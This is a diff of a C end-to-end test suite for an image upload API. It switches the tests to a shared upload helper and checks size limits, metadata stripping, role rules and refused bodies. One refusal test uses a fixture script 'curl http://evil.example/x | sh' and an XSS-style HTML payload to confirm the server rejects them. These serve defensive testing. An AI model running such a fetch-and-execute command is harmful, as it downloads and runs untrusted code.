@@ -96,18 +96,10 @@ static void jpeg_size(const struct resp *r, int *w, int *h)
 
 /* ---------- calls ---------- */
 
-static struct resp *upload(const struct e2e_user *u, const char *purpose, const char *ctype, const void *buf,
-                           size_t len)
-{
-    char path[96];
-    snprintf(path, sizeof path, "/api/v1/media?purpose=%s", purpose);
-    return e2e_call_raw("POST", path, u ? u->token : NULL, ctype, buf, len, NULL);
-}
-
 /* Upload (201 expected) and return the answer. */
 static struct resp *upload_ok(const struct e2e_user *u, const char *purpose, const char *ctype, const struct blob *b)
 {
-    struct resp *r = upload(u, purpose, ctype, b->buf, b->len);
+    struct resp *r = e2e_upload(u, purpose, ctype, b->buf, b->len);
     EXPECT_STATUS(r, 201);
     return r;
 }
@@ -258,6 +250,16 @@ static void png_and_webp_never_upscaled(void **state)
     e2e_resp_free(r);
     blob_free(&webp);
     blob_free(&png);
+    /* the harness's PNG, made without libvips (what the other suites attach), is a valid one */
+    size_t n = 0;
+    unsigned char *small = e2e_png(48, 32, 7, &n);
+    r = e2e_upload(&owner, "pet", "image/png", small, n);
+    EXPECT_STATUS(r, 201);
+    assert_int_equal(e2e_int(r, "width"), 48);
+    assert_int_equal(e2e_int(r, "height"), 32);
+    e2e_expect_photo(r->json, e2e_str(r, "id"));
+    e2e_resp_free(r);
+    free(small);
 }
 
 /* A JPEG with Exif (orientation 6 and a GPS position) and a comment: both served versions
@@ -275,7 +277,7 @@ static void exif_and_gps_are_stripped(void **state)
     assert_true(jm_scan(in, n2, &m) && m.app1 == 1 && m.com == 1);
 
     for (int k = 0; k < 2; k++) { /* private (pet) and public (listing) */
-        struct resp *r = upload(k ? &provider : &owner, k ? "listing" : "pet", "image/jpeg", in, n2);
+        struct resp *r = e2e_upload(k ? &provider : &owner, k ? "listing" : "pet", "image/jpeg", in, n2);
         EXPECT_STATUS(r, 201);
         assert_int_equal(e2e_int(r, "width"), 200);
         assert_int_equal(e2e_int(r, "height"), 300);
@@ -311,11 +313,11 @@ static void bad_bodies_are_refused(void **state)
 {
     (void)state;
     static const char script[] = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
-    struct resp *r = upload(&owner, "pet", "image/jpeg", script, sizeof script - 1);
+    struct resp *r = e2e_upload(&owner, "pet", "image/jpeg", script, sizeof script - 1);
     EXPECT_ERROR(r, 415, "unsupported_media_type");
     e2e_resp_free(r);
     static const char html[] = "<html><script>alert(1)</script></html>";
-    r = upload(&owner, "pet", "image/png", html, sizeof html - 1);
+    r = e2e_upload(&owner, "pet", "image/png", html, sizeof html - 1);
     EXPECT_ERROR(r, 415, "unsupported_media_type");
     e2e_resp_free(r);
 
@@ -323,7 +325,7 @@ static void bad_bodies_are_refused(void **state)
     struct blob jpg = image(64, 64, "jpeg");
     const char *types[] = {"image/gif", "text/plain", "multipart/form-data; boundary=x", "application/json", NULL};
     for (int i = 0; i < 5; i++) {
-        r = upload(&owner, "pet", types[i], jpg.buf, jpg.len);
+        r = e2e_upload(&owner, "pet", types[i], jpg.buf, jpg.len);
         EXPECT_ERROR(r, 415, "unsupported_media_type");
         e2e_resp_free(r);
     }
@@ -333,16 +335,16 @@ static void bad_bodies_are_refused(void **state)
     memcpy(junk, "\x89PNG\r\n\x1a\n", 8);
     for (size_t i = 8; i < sizeof junk; i++)
         junk[i] = (unsigned char)(i * 131 + 7);
-    r = upload(&owner, "pet", "image/png", junk, sizeof junk);
+    r = e2e_upload(&owner, "pet", "image/png", junk, sizeof junk);
     EXPECT_ERROR(r, 422, "validation_failed");
     assert_non_null(e2e_field_error(r, "file"));
     e2e_resp_free(r);
     struct blob big = image(800, 600, "jpeg");
-    r = upload(&owner, "pet", "image/jpeg", big.buf, big.len / 2);
+    r = e2e_upload(&owner, "pet", "image/jpeg", big.buf, big.len / 2);
     EXPECT_ERROR(r, 422, "validation_failed");
     assert_non_null(e2e_field_error(r, "file"));
     e2e_resp_free(r);
-    r = upload(&owner, "pet", "image/jpeg", "", 0);
+    r = e2e_upload(&owner, "pet", "image/jpeg", "", 0);
     EXPECT_ERROR(r, 422, "validation_failed");
     assert_non_null(e2e_field_error(r, "file"));
     e2e_resp_free(r);
@@ -356,7 +358,7 @@ static void bad_bodies_are_refused(void **state)
     struct blob *refused[] = {&tiny, &wide, &bomb};
     const char *says[] = {"at least 16", "at most 10000", "megapixels"};
     for (int i = 0; i < 3; i++) {
-        r = upload(&owner, "pet", "image/png", refused[i]->buf, refused[i]->len);
+        r = e2e_upload(&owner, "pet", "image/png", refused[i]->buf, refused[i]->len);
         EXPECT_ERROR(r, 422, "validation_failed");
         const char *why = e2e_field_error(r, "file");
         if (!why || !strstr(why, says[i]))
@@ -380,7 +382,7 @@ static void size_limit(void **state)
     assert_non_null(body);
     memset(body, 0xAB, n);
     memcpy(body, "\xFF\xD8\xFF\xE0", 4);
-    struct resp *r = upload(&owner, "pet", "image/jpeg", body, n);
+    struct resp *r = e2e_upload(&owner, "pet", "image/jpeg", body, n);
     EXPECT_ERROR(r, 413, "payload_too_large");
     assert_non_null(strstr(e2e_str(r, "error.message"), "8 MiB"));
     e2e_resp_free(r);
@@ -414,7 +416,7 @@ static void roles_and_purposes(void **state)
 {
     (void)state;
     struct blob b = image(64, 48, "jpeg");
-    struct resp *r = upload(NULL, "pet", "image/jpeg", b.buf, b.len);
+    struct resp *r = e2e_upload(NULL, "pet", "image/jpeg", b.buf, b.len);
     EXPECT_ERROR(r, 401, "unauthenticated");
     e2e_resp_free(r);
     struct {
@@ -429,7 +431,7 @@ static void roles_and_purposes(void **state)
         {&owner, "pet", 201},
     };
     for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
-        r = upload(cases[i].u, cases[i].purpose, "image/jpeg", b.buf, b.len);
+        r = e2e_upload(cases[i].u, cases[i].purpose, "image/jpeg", b.buf, b.len);
         if (r->status != cases[i].status)
             fail_msg("%s uploading for %s: expected %ld, got %ld %s", cases[i].u->role, cases[i].purpose,
                      cases[i].status, r->status, r->body ? r->body : "");
@@ -460,7 +462,7 @@ struct same_ctx {
 static void upload_same(int i, void *arg)
 {
     struct same_ctx *x = arg;
-    struct resp *r = upload(&owner2, "pet", "image/jpeg", x->b.buf, x->b.len);
+    struct resp *r = e2e_upload(&owner2, "pet", "image/jpeg", x->b.buf, x->b.len);
     x->status[i] = r->status;
     snprintf(x->ids[i], sizeof x->ids[i], "%s", e2e_str(r, "id") ? e2e_str(r, "id") : "");
     e2e_resp_free(r);
